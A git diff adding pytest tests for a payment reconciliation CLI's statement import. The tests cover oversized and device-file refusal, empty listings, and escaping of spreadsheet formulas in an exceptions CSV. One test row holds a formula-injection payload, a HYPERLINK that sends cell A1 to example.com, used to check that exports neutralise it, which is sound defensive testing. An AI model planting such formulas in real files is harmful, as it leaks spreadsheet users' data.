@@ -26,6 +26,7 @@ from vpay.rails.mtn import MtnMomo
 from vpay.rails.port import ChargeRequest, SubmitKind
 from vpay.sandbox import statement
 from vpay.signals import ShutdownSignals
+from vpay.statements import reader
 
 pytestmark = pytest.mark.slow
 
@@ -394,6 +395,30 @@ def test_a_bad_file_is_refused_in_one_line_and_nothing_is_applied(ledger, db, db
     assert _counts(db) == before and ledger.status(charge["id"]) == "pending"
 
 
+@pytest.mark.parametrize("target, says", [("device", "not a regular file"), ("oversize", "larger than 200 MiB")])
+def test_a_device_or_an_oversized_file_is_refused_before_it_is_read(db, db_url, tmp_path, target, says):
+    if target == "device":
+        path = Path("/dev/zero")  # would be read forever
+    else:
+        path = tmp_path / "huge.csv"
+        with path.open("wb") as handle:  # sparse: no disk used
+            handle.truncate(reader.MAX_STATEMENT_BYTES + 1)
+    before = _counts(db)
+    out = _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--apply")
+    assert out.returncode == 1, (out.stdout, out.stderr)
+    [said] = _said(out)
+    assert said.startswith(f"vpay: {path.name}: ") and says in said, out.stderr
+    assert _counts(db) == before
+
+
+@pytest.mark.parametrize("args", [("charges", "list"), ("charges", "list", "--status", "pending"),
+                                  ("statements", "list")])
+def test_an_empty_list_says_none_like_the_other_list_commands(db, db_url, args):
+    out = _cli(db_url, *args)
+    assert out.returncode == 0, out.stderr
+    assert out.stdout == "(none)\n"
+
+
 def test_a_utf8_byte_order_mark_is_read_as_the_same_statement(ledger, db, db_url, tmp_path):
     charge = _one_to_settle(ledger)
     path = tmp_path / "excel.csv"
@@ -512,9 +537,11 @@ def test_an_orange_statement_names_charges_by_order_id(db, merchant):
                                    payer="2250700000001")
     charge = created.charge
     order_id = order_id_for(charge["rail_reference"])
+    # another order id: change the last hex digit (to one it is not: the id is random)
+    other_id = order_id[:-1] + ("0" if order_id[-1] != "0" else "1")
     data = ("reference,rail_transaction_id,amount,currency,status,time\r\n"
             f"{order_id},MP2611.3000.A12345,1500,XOF,SUCCESS,2026-11-30T10:00:00Z\r\n"
-            f"{order_id[:-1]}f,MP2611.3000.A12346,1500.5,XOF,SUCCESS,2026-11-30T10:01:00Z\r\n").encode()
+            f"{other_id},MP2611.3000.A12346,1500.5,XOF,SUCCESS,2026-11-30T10:01:00Z\r\n").encode()
     report = importer.run(db, data, rail="orange", profile=profiles.PROFILES["default"], file_name="om.csv",
                           apply=True)
     assert {k: v["count"] for k, v in report["summary"].items()} == {"settled": 1, "error": 1}
@@ -528,3 +555,33 @@ def test_an_orange_statement_names_charges_by_order_id(db, merchant):
     # the same file under the other rail is another statement, naming nothing of that rail's
     other = importer.run(db, data, rail="mtn", profile=profiles.PROFILES["default"], file_name="om.csv")
     assert {k: v["count"] for k, v in other["summary"].items()} == {"unknown_rail_transaction": 1, "error": 1}
+
+
+def test_an_unwritable_exceptions_csv_is_refused_before_anything_is_applied(ledger, db, db_url, tmp_path):
+    # With --apply the import commits first; a path that cannot be written
+    # failed only afterwards, as "internal error" (70) for an import that happened.
+    charge = _one_to_settle(ledger)
+    path = tmp_path / "s.csv"
+    path.write_bytes(statement.export(ledger.sandbox))
+    before = _counts(db)
+    out = _import(db_url, path, "--apply", "--exceptions-csv", str(tmp_path / "no-such-dir" / "x.csv"))
+    assert out.returncode == 2, (out.stdout, out.stderr)
+    [said] = _said(out)
+    assert "--exceptions-csv" in said and "internal error" not in said
+    assert _counts(db) == before and ledger.status(charge["id"]) == "pending"
+
+
+def test_the_exceptions_csv_quotes_statement_text_a_spreadsheet_would_run(db, db_url, tmp_path):
+    path = tmp_path / "s.csv"
+    path.write_text("reference,rail_transaction_id,amount,currency,status,time\n"
+                    '"=HYPERLINK(""http://example.com/?""&A1,""x"")",123,1.00,EUR,SUCCESSFUL,2026-12-01T01:00:00Z\n'
+                    "@SUM(1+1),+124,1.00,EUR,SUCCESSFUL,2026-12-01T01:00:00Z\n")
+    out_csv = tmp_path / "exceptions.csv"
+    out = _cli(db_url, "statements", "import", str(path), "--rail", "mtn", "--exceptions-csv", str(out_csv))
+    assert out.returncode == 0, out.stderr
+    rows = list(csv.DictReader(io.StringIO(out_csv.read_bytes().decode("utf-8-sig"))))
+    assert [r["outcome"] for r in rows] == ["unknown_rail_transaction"] * 2
+    assert rows[0]["reference"] == "'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")"
+    assert rows[1]["reference"] == "'@SUM(1+1)"
+    assert rows[1]["rail_transaction_id"] == "+124"  # a plain number stays a number
+    assert all(r["amount"] == "1.00" for r in rows)
